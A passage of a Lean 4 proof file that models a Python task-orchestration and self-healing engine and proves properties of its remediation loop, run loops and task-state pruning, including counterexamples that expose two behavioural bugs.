    (disc : String → Option TaskSpec) (t : String) : Bool :=
  match disc t with
  | none => false
  | some spec =>
    match spec.diag with
    | .error _ => false
    | .ok d =>
      match d.plan with
      | none => false
      | some p =>
        match run_plan_actions isD env false p.actions with
        | .error _ => false
        | .ok false => false
        | .ok true =>
          match spec.post with
          | .error _ => false
          | .ok s => s = "PASS"

theorem auto_fix_step_fixes (isD : Bool) (env : List String → ProcOutcome)
    (disc : String → Option TaskSpec) (acc : AutoFixAcc) (t : String) :
    (auto_fix_step isD env false disc acc t).fixes =
      acc.fixes + (if healedB isD env disc t then 1 else 0) := by
  cases hdisc : disc t with
  | none => simp [auto_fix_step, healedB, hdisc]
  | some spec =>
    cases hdiag : spec.diag with
    | error e => simp [auto_fix_step, healedB, hdisc, hdiag]
    | ok d =>
      cases hplan : d.plan with
      | none => simp [auto_fix_step, healedB, hdisc, hdiag, hplan]
      | some p =>
        cases hacts : run_plan_actions isD env false p.actions with
        | error e => simp [auto_fix_step, healedB, hdisc, hdiag, hplan, hacts]
        | ok b =>
          cases b with
          | false => simp [auto_fix_step, healedB, hdisc, hdiag, hplan, hacts]
          | true =>
            cases hpost : spec.post with
            | error e => simp [auto_fix_step, healedB, hdisc, hdiag, hplan, hacts, hpost]
            | ok s =>
              by_cases hs : s = "PASS"
              · simp [auto_fix_step, healedB, hdisc, hdiag, hplan, hacts, hpost, hs]
              · simp [auto_fix_step, healedB, hdisc, hdiag, hplan, hacts, hpost, hs]

theorem auto_fix_fold_fixes (isD : Bool) (env : List String → ProcOutcome)
    (disc : String → Option TaskSpec) (l : List String) (acc : AutoFixAcc) :
    (l.foldl (auto_fix_step isD env false disc) acc).fixes =
      acc.fixes + l.countP (fun u => healedB isD env disc u) := by
  induction l generalizing acc with
  | nil => simp
  | cons u rest ih =>
    simp only [List.foldl_cons, List.countP_cons]
    rw [ih, auto_fix_step_fixes]
    by_cases h : healedB isD env disc u
    · simp [h]
      omega
    · simp [h]

theorem decide_countP_pos_eq_any (p : String → Bool) (l : List String) :
    (decide (0 < l.countP p)) = l.any p := by
  cases h : l.any p with
  | false =>
    have hz : l.countP p = 0 := by
      rw [List.countP_eq_zero]
      intro a ha
      have := List.any_eq_false.mp h a ha
      simpa using this
    simp [hz]
  | true =>
    have hp : 0 < l.countP p := by
      rw [List.countP_pos_iff]
      rcases List.any_eq_true.mp h with ⟨a, ha, hpa⟩
      exact ⟨a, ha, hpa⟩
    simp [hp]

/-- The healing-loop iteration at a failing task whose plan's actions all
succeed (not in dry-run): the task is re-invoked, and its status entry is set
to PASS exactly when the re-run reports PASS, staying untouched on any other
re-run outcome. -/
theorem auto_fix_step_at_task (isD : Bool) (env : List String → ProcOutcome)
    (disc : String → Option TaskSpec) (acc : AutoFixAcc) (t : String)
    (spec : TaskSpec) (d : DiagResult) (p : RemediationPlan)
    (hdisc : disc t = some spec) (hdiag : spec.diag = Except.ok d)
    (hplan : d.plan = some p)
    (hacts : run_plan_actions isD env false p.actions = Except.ok true) :
    t ∈ (auto_fix_step isD env false disc acc t).reruns ∧
    (spec.post = Except.ok "PASS" →
      (auto_fix_step isD env false disc acc t).statuses = set_status_pass acc.statuses t) ∧
    (∀ s, spec.post = Except.ok s → s ≠ "PASS" →
      (auto_fix_step isD env false disc acc t).statuses = acc.statuses) ∧
    (∀ e, spec.post = Except.error e →
      (auto_fix_step isD env false disc acc t).statuses = acc.statuses) := by
  cases hpost : spec.post with
  | error e =>
    refine ⟨?_, ?_, ?_, ?_⟩
    · simp [auto_fix_step, hdisc, hdiag, hplan, hacts, hpost]
    · intro hpass
      exact Except.noConfusion hpass
    · intro s hs
      exact absurd hs (fun h => Except.noConfusion h)
    · intro e2 he2
      simp [auto_fix_step, hdisc, hdiag, hplan, hacts, hpost]
  | ok s =>
    by_cases hs : s = "PASS"
    · subst hs
      refine ⟨?_, ?_, ?_, ?_⟩
      · simp [auto_fix_step, hdisc, hdiag, hplan, hacts, hpost]
      · intro _
        simp [auto_fix_step, hdisc, hdiag, hplan, hacts, hpost]
      · intro s2 hs2 hne
        cases hs2
        exact absurd rfl hne
      · intro e2 he2
        exact Except.noConfusion he2
    · refine ⟨?_, ?_, ?_, ?_⟩
      · simp [auto_fix_step, hdisc, hdiag, hplan, hacts, hpost, hs]
      · intro hpass
        cases hpass
        exact absurd rfl hs
      · intro s2 hs2 hne
        simp [auto_fix_step, hdisc, hdiag, hplan, hacts, hpost, hs]
      · intro e2 he2
        exact Except.noConfusion he2

/-- C1: in `auto_fix` with `dry_run = false`, for every failing task whose
remediation plan's actions all report success, the engine re-invokes the
original task; its status entry becomes PASS only when that re-run reports
PASS, and on any other re-run outcome (FAIL, any non-PASS status, or an
exception) the entry is left exactly as it was — still FAIL. -/
theorem healing_is_verification_gated
    (isD : Bool) (env : List String → ProcOutcome) (disc : String → Option TaskSpec)
    (st : List (String × TaskStatusEntry)) (t : String) (ts : TaskStatusEntry)
    (spec : TaskSpec) (d : DiagResult) (p : RemediationPlan)
    (hnd : (keysOf st).Nodup) (hmem : (t, ts) ∈ st) (hfail : ts.status = "FAIL")
    (hdisc : disc t = some spec) (hdiag : spec.diag = Except.ok d) (hplan : d.plan = some p)
    (hacts : run_plan_actions isD env false p.actions = Except.ok true) :
    t ∈ (auto_fix isD env false disc st).1.reruns ∧
    (spec.post = Except.ok "PASS" →
      lookupS (auto_fix isD env false disc st).1.statuses t =
        some { ts with status := "PASS" }) ∧
    (∀ s, spec.post = Except.ok s → s ≠ "PASS" →
      lookupS (auto_fix isD env false disc st).1.statuses t = some ts) ∧
    (∀ e, spec.post = Except.error e →
      lookupS (auto_fix isD env false disc st).1.statuses t = some ts) := by
  have hft : t ∈ failed_tasks st := by
    unfold failed_tasks
    refine List.mem_map.mpr ⟨(t, ts), ?_, rfl⟩
    exact List.mem_filter.mpr ⟨hmem, by simp [hfail]⟩
  have hndf : (failed_tasks st).Nodup := by
    have hsub : ((st.filter (fun e => e.2.status = "FAIL")).map Prod.fst).Sublist
        (st.map Prod.fst) := (List.filter_sublist st).map Prod.fst
    exact hnd.sublist hsub
  obtain ⟨l1, l2, hsplit⟩ := List.mem_iff_append.mp hft
  have hnd2 : (l1 ++ t :: l2).Nodup := hsplit ▸ hndf
  have hparts := List.nodup_append.mp hnd2
  have ht1 : t ∉ l1 := fun hmem1 =>
    hparts.2.2 hmem1 (List.mem_cons_self t l2)
  have ht2 : t ∉ l2 := (List.nodup_cons.mp hparts.2.1).1
  have hfold : (auto_fix isD env false disc st).1 =
      l2.foldl (auto_fix_step isD env false disc)
        (auto_fix_step isD env false disc
          (l1.foldl (auto_fix_step isD env false disc) ⟨st, [], 0, 0⟩) t) := by
    show (failed_tasks st).foldl (auto_fix_step isD env false disc) ⟨st, [], 0, 0⟩ = _
    rw [hsplit, List.foldl_append, List.foldl_cons]
  set mid := l1.foldl (auto_fix_step isD env false disc) ⟨st, [], 0, 0⟩ with hmid
  have hlook_mid : lookupS mid.statuses t = some ts := by
    rw [hmid, auto_fix_fold_statuses_not_mem isD env false disc l1 _ t ht1]
    exact lookupS_eq_some_of_mem_nodup st t ts hmem hnd
  have hstep := auto_fix_step_at_task isD env disc mid t spec d p hdisc hdiag hplan hacts
  refine ⟨?_, ?_, ?_, ?_⟩
  · rw [hfold]
    exact auto_fix_fold_reruns_mono isD env false disc l2 _ t hstep.1
  · intro hpass
    rw [hfold, auto_fix_fold_statuses_not_mem isD env false disc l2 _ t ht2,
      hstep.2.1 hpass]
    exact set_status_pass_lookup_self mid.statuses t ts hlook_mid
  · intro s hs hsne
    rw [hfold, auto_fix_fold_statuses_not_mem isD env false disc l2 _ t ht2,
      hstep.2.2.1 s hs hsne]
    exact hlook_mid
  · intro e he
    rw [hfold, auto_fix_fold_statuses_not_mem isD env false disc l2 _ t ht2,
      hstep.2.2.2 e he]
    exact hlook_mid

/-- The allow-listed dummy-heal action used by the C1 witness, matching the
plan `DummyHealingTask` produces. -/
def c1action : RAction :=
  ⟨"shell_cmd", "touch /tmp/nextlevelapex_dummy_heal.txt", false⟩

/-- The witness plan: one allow-listed shell action. -/
def c1plan : RemediationPlan :=
  ⟨some "Create the missing dummy file in /tmp", [c1action]⟩

/-- A failing task whose re-run reports PASS. -/
def c1specPass : TaskSpec :=
  ⟨Except.ok ⟨some c1plan, none⟩, Except.ok "PASS"⟩

/-- A failing task whose re-run still reports FAIL. -/
def c1specFail : TaskSpec :=
  ⟨Except.ok ⟨some c1plan, none⟩, Except.ok "FAIL"⟩

/-- Witness for C1 at concrete inputs: with the plan's single action
succeeding, a PASS re-run persists PASS, and a FAIL re-run leaves the status
entry exactly as it was (FAIL). -/
theorem healing_is_verification_gated_witness :
    lookupS (auto_fix false (fun _ => ProcOutcome.success) false
      (fun n => if n = "DNS Check" then some c1specPass else none)
      [("DNS Check", ⟨"FAIL", none, none⟩)]).1.statuses "DNS Check" =
        some ⟨"PASS", none, none⟩ ∧
    lookupS (auto_fix false (fun _ => ProcOutcome.success) false
      (fun n => if n = "DNS Check" then some c1specFail else none)
      [("DNS Check", ⟨"FAIL", none, none⟩)]).1.statuses "DNS Check" =
        some ⟨"FAIL", none, none⟩ := by
  constructor
  · exact (healing_is_verification_gated false (fun _ => ProcOutcome.success)
      (fun n => if n = "DNS Check" then some c1specPass else none)
      [("DNS Check", ⟨"FAIL", none, none⟩)] "DNS Check" ⟨"FAIL", none, none⟩
      c1specPass ⟨some c1plan, none⟩ c1plan
      (by decide) (List.mem_singleton.mpr rfl) rfl rfl rfl rfl rfl).2.1 rfl
  · exact (healing_is_verification_gated false (fun _ => ProcOutcome.success)
      (fun n => if n = "DNS Check" then some c1specFail else none)
      [("DNS Check", ⟨"FAIL", none, none⟩)] "DNS Check" ⟨"FAIL", none, none⟩
      c1specFail ⟨some c1plan, none⟩ c1plan
      (by decide) (List.mem_singleton.mpr rfl) rfl rfl rfl rfl rfl).2.2.1
      "FAIL" rfl (by decide)

/-- C10: with `dry_run = false`, `auto_fix` rewrites the on-disk state file
exactly when at least one failing task was healed (its plan existed, every
action succeeded, and the post-remediation re-run reported PASS); when every
remediation attempt fails or no plan is available the file is untouched, even
though remediation actions may have executed against the host. -/
theorem auto_fix_saves_only_when_healed (isD : Bool) (env : List String → ProcOutcome)
    (disc : String → Option TaskSpec) (st : List (String × TaskStatusEntry))
    (disk : FsState) (serialize : List (String × TaskStatusEntry) → List Nat) :
    (auto_fix isD env false disc st).2 =
      (failed_tasks st).any (fun u => healedB isD env disc u) ∧
    auto_fix_with_disk isD env disc st disk serialize false =
      (if (failed_tasks st).any (fun u => healedB isD env disc u) then
        (save_state disk (serialize (auto_fix isD env false disc st).1.statuses)
          false none).1
      else disk) := by
  have hfix : (auto_fix isD env false disc st).1.fixes =
      (failed_tasks st).countP (fun u => healedB isD env disc u) := by
    show ((failed_tasks st).foldl (auto_fix_step isD env false disc)
      ⟨st, [], 0, 0⟩).fixes = _
    rw [auto_fix_fold_fixes]
    simp
  have h1 : (auto_fix isD env false disc st).2 =
      (failed_tasks st).any (fun u => healedB isD env disc u) := by
    show (decide (0 < (auto_fix isD env false disc st).1.fixes) && !false) = _
    rw [Bool.not_false, Bool.and_true, hfix]
    exact decide_countP_pos_eq_any _ _
  refine ⟨h1, ?_⟩
  show (if (auto_fix isD env false disc st).2 = true then
      (save_state disk (serialize (auto_fix isD env false disc st).1.statuses)
        false none).1
    else disk) = _
  rw [h1]

/-! ## Execution loops

`main2.py` `main` (lines 466-501) iterates every discovered task: skip when
healthy and no drift, otherwise run inside a try that converts any exception
into a FAIL health entry carrying the exception text, then continue with the
next task.  The legacy `main.py` `run` (lines 185-221) converts exceptions to
failed results the same way but aborts the loop at the first failing task
(`break` at line 221) — the variant the repository's own
`test_main_shim_has_no_orchestrator_implementation` forbids `main.py` from
containing.  Task bodies are external; each is modelled by the result or
exception its invocation produces. -/

/-- The normalized result the `main2` loop reads from `run_task`. -/
structure RunRes where
  status : String
  details : Option String

/-- One iteration of the `main2` run loop: the skip decision (needs-run when
last status is not PASS, or drift, or a forced mode), then the guarded
execution updating health and section marks; the second component is the list
of visited task names. -/
def main2_loop_step (drift : Bool) (mode : String) (now : String)
    (acc : EngineState × List String) (task : String × Except String RunRes) :
    EngineState × List String :=
  let st := acc.1
  let name := task.1
  let last_status := (lookupS st.task_status name).map (fun e => e.status)
  let needs_run : Bool := (last_status != some "PASS") || drift ||
    (mode == "test" || mode == "stress" || mode == "security")
  if !needs_run then (st, acc.2 ++ [name])
  else
    match task.2 with
    | .ok r =>
      let details := r.details.map (fun dr => [("message", dr)])
      let st2 := update_task_health name r.status details now st
      let st3 :=
        if r.status = "PASS" then mark_section_complete name st2
        else mark_section_failed name st2
      (st3, acc.2 ++ [name])
    | .error e =>
      let st2 := mark_section_failed name st
      let st3 := update_task_health name "FAIL" (some [("error", e)]) now st2
      (st3, acc.2 ++ [name])

/-- The `main2` run loop over all discovered tasks in order. -/
def main2_run_loop (drift : Bool) (mode : String) (now : String)
    (tasks : List (String × Except String RunRes)) (st : EngineState) :
    EngineState × List String :=
  tasks.foldl (main2_loop_step drift mode now) (st, [])

/-- The legacy `main.py` run loop: exceptions become failed results, but a
failed result aborts the remaining tasks (the `break` at line 221).  Returns
the summary list, one entry per task actually processed. -/
def legacy_run_loop : List (String × Except String Bool) → List (String × Bool)
  | [] => []
  | (n, body) :: rest =>
    let success := match body with | .ok b => b | .error _ => false
    (n, success) :: (if success then legacy_run_loop rest else [])

/-- C6 (code bug): evaluated at a concrete two-task input whose first task
fails.  The `main2` loop converts the exception into a FAIL health entry
carrying the exception text and still processes the second task; the legacy
`main.py` run loop — inside the very lines the claim cites — processes only
the first task and aborts, contradicting the claim (and the repository's own
test that forbids `main.py` from containing this loop). -/
theorem task_failure_abort_divergence :
    (main2_run_loop false "run" "t0"
      [("a", Except.error "boom"), ("b", Except.ok ⟨"PASS", none⟩)]
      ⟨[], [], [], []⟩).2 = ["a", "b"] ∧
    lookupS (main2_run_loop false "run" "t0"
      [("a", Except.error "boom"), ("b", Except.ok ⟨"PASS", none⟩)]
      ⟨[], [], [], []⟩).1.health_history "a" =
      some [[("timestamp", "t0"), ("status", "FAIL"), ("error", "boom")]] ∧
    legacy_run_loop [("a", Except.ok false), ("b", Except.ok true)] = [("a", false)] ∧
    "b" ∉ (legacy_run_loop [("a", Except.ok false), ("b", Except.ok true)]).map Prod.fst := by
  refine ⟨rfl, rfl, rfl, by decide⟩

/-! ## Discovery pass: `main2.py` `ensure_task_state` (lines 245-261) and the
`--task` filter (lines 421-452)

`ensure_task_state` lazily creates PENDING slots for the given task names and
then deletes every `task_status`/`health_history` entry whose key is not among
them.  `main` computes that name list from the *filtered* task map, so a
`--task` filter hands `ensure_task_state` only the selected names. -/

theorem lookupS_eq_none_iff_not_mem_keys {α : Type} (l : List (String × α)) (t : String) :
    lookupS l t = none ↔ t ∉ keysOf l := by
  induction l with
  | nil => simp [keysOf]
  | cons e rest ih =>
    rw [lookupS_cons]
    by_cases he : e.1 = t
    · simp [he, keysOf]
    · simp only [he, if_false, keysOf, List.map_cons, List.mem_cons]
      rw [ih]
      constructor
      · intro h hc
        rcases hc with hc | hc
        · exact he hc.symm
        · exact h hc
      · intro h
        exact fun hc => h (Or.inr hc)

theorem lookupS_append_of_some {α : Type} (a b : List (String × α)) (t : String) (v : α)
    (h : lookupS a t = some v) : lookupS (a ++ b) t = some v := by
  induction a with
  | nil => simp [lookupS] at h
  | cons e rest ih =>
    rw [lookupS_cons] at h
    rw [List.cons_append, lookupS_cons]
    by_cases he : e.1 = t
    · simpa [he] using h
    · simp only [he, if_false] at h ⊢
      exact ih h

theorem lookupS_append_of_none {α : Type} (a b : List (String × α)) (t : String)
    (h : lookupS a t = none) : lookupS (a ++ b) t = lookupS b t := by
  induction a with
  | nil => rfl
  | cons e rest ih =>
    rw [lookupS_cons] at h
    rw [List.cons_append, lookupS_cons]
    by_cases he : e.1 = t
    · simp [he] at h
    · simp only [he, if_false] at h ⊢
      exact ih h

/-- The lazy-create phase of `ensure_task_state`, over either map. -/
def ensure_insert {α : Type} (v0 : α) (l : List (String × α)) (names : List String) :
    List (String × α) :=
  names.foldl (fun acc u => if (keysOf acc).contains u then acc else acc ++ [(u, v0)]) l

theorem ensure_insert_preserves {α : Type} (v0 : α) (l : List (String × α))
    (names : List String) (t : String) (v : α) (h : lookupS l t = some v) :
    lookupS (ensure_insert v0 l names) t = some v := by
  induction names generalizing l with
  | nil => exact h
  | cons u rest ih =>
    show lookupS (ensure_insert v0 _ rest) t = some v
    by_cases hc : (keysOf l).contains u
    · simp only [ensure_insert, List.foldl_cons, hc, if_true]
      exact ih l h
    · simp only [ensure_insert, List.foldl_cons, hc, Bool.false_eq_true, if_false]
      exact ih _ (lookupS_append_of_some l [(u, v0)] t v h)

theorem ensure_insert_new {α : Type} (v0 : α) (l : List (String × α))
    (names : List String) (t : String) (hmem : t ∈ names) (h : lookupS l t = none) :
    lookupS (ensure_insert v0 l names) t = some v0 := by
  induction names generalizing l with
  | nil => simp at hmem
  | cons u rest ih =>
    by_cases hut : u = t
    · subst hut
      have hc : ¬ (keysOf l).contains u := by
        rw [lookupS_eq_none_iff_not_mem_keys] at h
        simpa using h
      simp only [ensure_insert, List.foldl_cons, hc, Bool.false_eq_true, if_false]
      refine ensure_insert_preserves v0 _ rest u v0 ?_
      rw [lookupS_append_of_none l [(u, v0)] u h]
      simp [lookupS]
    · have hrest : t ∈ rest := by
        rcases List.mem_cons.mp hmem with hm | hm
        · exact absurd hm.symm hut
        · exact hm
      by_cases hc : (keysOf l).contains u
      · simp only [ensure_insert, List.foldl_cons, hc, if_true]
        exact ih l hrest h
      · simp only [ensure_insert, List.foldl_cons, hc, Bool.false_eq_true, if_false]
        refine ih _ hrest ?_
        rw [lookupS_append_of_none l [(u, v0)] t h]
        simp [lookupS, hut]

theorem ensure_insert_isSome {α : Type} (v0 : α) (l : List (String × α))
    (names : List String) (t : String) (hmem : t ∈ names) :
    (lookupS (ensure_insert v0 l names) t).isSome = true := by
  cases h : lookupS l t with
  | some v => rw [ensure_insert_preserves v0 l names t v h]; rfl
  | none => rw [ensure_insert_new v0 l names t hmem h]; rfl

theorem lookupS_filter_mem {α : Type} (l : List (String × α)) (names : List String)
    (t : String) (h : names.contains t) :
    lookupS (l.filter (fun e => names.contains e.1)) t = lookupS l t := by
  induction l with
  | nil => rfl
  | cons e rest ih =>
    by_cases he : e.1 = t
    · rw [List.filter_cons]
      simp only [he, h, if_true]
      rw [lookupS_cons, lookupS_cons]
      simp [he, ih]
    · rw [List.filter_cons]
      by_cases hc : names.contains e.1
      · simp only [hc, if_true]
        rw [lookupS_cons, lookupS_cons]
        simp only [he, if_false]
        exact ih
      · simp only [hc, Bool.false_eq_true, if_false]
        rw [lookupS_cons]
        simp only [he, if_false]
        exact ih

theorem lookupS_filter_not_mem {α : Type} (l : List (String × α)) (names : List String)
    (t : String) (h : ¬ names.contains t) :
    lookupS (l.filter (fun e => names.contains e.1)) t = none := by
  induction l with
  | nil => rfl
  | cons e rest ih =>
    rw [List.filter_cons]
    by_cases hc : names.contains e.1
    · simp only [hc, if_true]
      rw [lookupS_cons]
      have he : ¬ (e.1 = t) := fun h2 => h (h2 ▸ hc)
      simp only [he, if_false]
      exact ih
    · simp only [hc, Bool.false_eq_true, if_false]
      exact ih

/-- Embedding of `ensure_task_state`: lazily create PENDING status and empty
history slots for each given name, then delete every entry whose task is not
among the given names. -/
def ensure_task_state (st : EngineState) (task_names : List String) : EngineState :=
  let ts2 := ensure_insert (⟨"PENDING", none, none⟩ : TaskStatusEntry)
    st.task_status task_names
  let hh2 := ensure_insert ([] : List (List (String × String))) st.health_history task_names
  { st with
    task_status := ts2.filter (fun e => task_names.contains e.1),
    health_history := hh2.filter (fun e => task_names.contains e.1) }

/-- Whether `needle` is a prefix of `hay`, on character lists. -/
def charListStartsWith : List Char → List Char → Bool
  | [], _ => true
  | _ :: _, [] => false
  | c :: cs, d :: ds => c = d && charListStartsWith cs ds

/-- Python `needle in hay`, on character lists. -/
def charListContains (hay needle : List Char) : Bool :=
  charListStartsWith needle hay ||
    (match hay with
     | [] => false
     | _ :: rest => charListContains rest needle)

/-- Python `s.lower()` restricted to per-character lowering (the names and
filters involved are ASCII). -/
def lowerList (s : String) : List Char :=
  s.toList.map Char.toLower

/-- Python `needle in hay` on strings. -/
def containsSub (hay needle : String) : Bool :=
  charListContains hay.toList needle.toList

/-- The `--task` filter of `main` (lines 421-439): with no filters the full
discovered map is used; otherwise only tasks whose lowercased name contains
one of the lowercased filters (substring match). -/
def filter_tasks {α : Type} (discovered : List (String × α)) (filters : List String) :
    List (String × α) :=
  if filters.isEmpty then discovered
  else discovered.filter
    (fun e => filters.any (fun f => charListContains (lowerList e.1) (lowerList f)))

/-- The discovery pass of `main` (lines 421-452): filter the discovered tasks,
then `ensure_task_state` with the names of the filtered map. -/
def main_discovery_pass {α : Type} (st : EngineState) (discovered : List (String × α))
    (filters : List String) : EngineState :=
  ensure_task_state st (keysOf (filter_tasks discovered filters))

/-- The concrete state for the C9 counterexample: two registered tasks, `a`
failing and `b` healthy with recorded history. -/
def c9state : EngineState :=
  ⟨[("a", ⟨"FAIL", none, none⟩), ("b", ⟨"PASS", some "t1", some "t1"⟩)],
   [("a", []), ("b", [[("timestamp", "t1"), ("status", "PASS")]])], [], []⟩

/-- C9 counterexample: with tasks `a` and `b` both registered and a `--task a`
filter, the discovery pass deletes `b`'s `task_status` and `health_history`
entries even though `b` is still registered. -/
theorem task_state_pruned_under_filter :
    lookupS (main_discovery_pass c9state [("a", 0), ("b", 0)] ["a"]).task_status "b" =
      none ∧
    lookupS (main_discovery_pass c9state [("a", 0), ("b", 0)] ["a"]).health_history "b" =
      none ∧
    "b" ∈ keysOf [("a", (0 : Nat)), ("b", 0)] ∧
    lookupS c9state.task_status "b" = some ⟨"PASS", some "t1", some "t1"⟩ := by
  refine ⟨rfl, rfl, by decide, rfl⟩

/-- C9 (amended): after the discovery pass the state contains a `task_status`
and `health_history` slot for every task name in the current run's task list
(existing entries preserved, fresh ones created as PENDING), and an entry is
pruned exactly when its task is absent from that list.  With no `--task`
filter the list is exactly the registered task names, so an entry is pruned
only when its task disappeared from the registry; under a `--task` filter,
entries of registered-but-unselected tasks are pruned as well. -/
theorem ensure_task_state_slots (st : EngineState) (names : List String) (t : String) :
    (t ∈ names →
      (∀ v, lookupS st.task_status t = some v →
        lookupS (ensure_task_state st names).task_status t = some v) ∧
      (lookupS st.task_status t = none →
        lookupS (ensure_task_state st names).task_status t =
          some ⟨"PENDING", none, none⟩) ∧
      (lookupS (ensure_task_state st names).task_status t).isSome = true ∧
      (lookupS (ensure_task_state st names).health_history t).isSome = true) ∧
    (t ∉ names →
      lookupS (ensure_task_state st names).task_status t = none ∧
      lookupS (ensure_task_state st names).health_history t = none) ∧
    (∀ (discovered : List (String × Nat)), filter_tasks discovered [] = discovered) := by
  refine ⟨?_, ?_, ?_⟩
  · intro hmem
    have hcont : names.contains t := by simpa using hmem
    refine ⟨?_, ?_, ?_, ?_⟩
    · intro v hv
      show lookupS (List.filter _ _) t = some v
      rw [lookupS_filter_mem _ names t hcont]
      exact ensure_insert_preserves _ _ names t v hv
    · intro hnone
      show lookupS (List.filter _ _) t = some _
      rw [lookupS_filter_mem _ names t hcont]
      exact ensure_insert_new _ _ names t hmem hnone
    · show (lookupS (List.filter _ _) t).isSome = true
      rw [lookupS_filter_mem _ names t hcont]
      exact ensure_insert_isSome _ _ names t hmem
    · show (lookupS (List.filter _ _) t).isSome = true
      rw [lookupS_filter_mem _ names t hcont]
      exact ensure_insert_isSome _ _ names t hmem
  · intro hmem
    have hcont : ¬ names.contains t := by simpa using hmem
    constructor
    · exact lookupS_filter_not_mem _ names t hcont
    · exact lookupS_filter_not_mem _ names t hcont
  · intro discovered
    simp [filter_tasks]

/-- Witness for C9 (amended) at concrete inputs: with the full registry as the
run list, `a`'s FAIL entry is preserved, a newly registered `c` gets a PENDING
slot, and `b` keeps its slot; pruning `b` happens only when the name list
omits it. -/
theorem ensure_task_state_slots_witness :
    lookupS (ensure_task_state c9state ["a", "b", "c"]).task_status "a" =
      some ⟨"FAIL", none, none⟩ ∧
    lookupS (ensure_task_state c9state ["a", "b", "c"]).task_status "c" =
      some ⟨"PENDING", none, none⟩ ∧
    (lookupS (ensure_task_state c9state ["a", "b", "c"]).task_status "b").isSome = true ∧
    lookupS (ensure_task_state c9state ["a"]).task_status "b" = none := by
  refine ⟨?_, ?_, ?_, ?_⟩
  · exact (ensure_task_state_slots c9state ["a", "b", "c"] "a").1 (by decide)
      |>.1 ⟨"FAIL", none, none⟩ rfl
  · exact (ensure_task_state_slots c9state ["a", "b", "c"] "c").1 (by decide)
      |>.2.1 rfl
  · exact (ensure_task_state_slots c9state ["a", "b", "c"] "b").1 (by decide)
      |>.2.2.1
  · exact (ensure_task_state_slots c9state ["a"] "b").2.1 (by decide)
      |>.1

end NLA
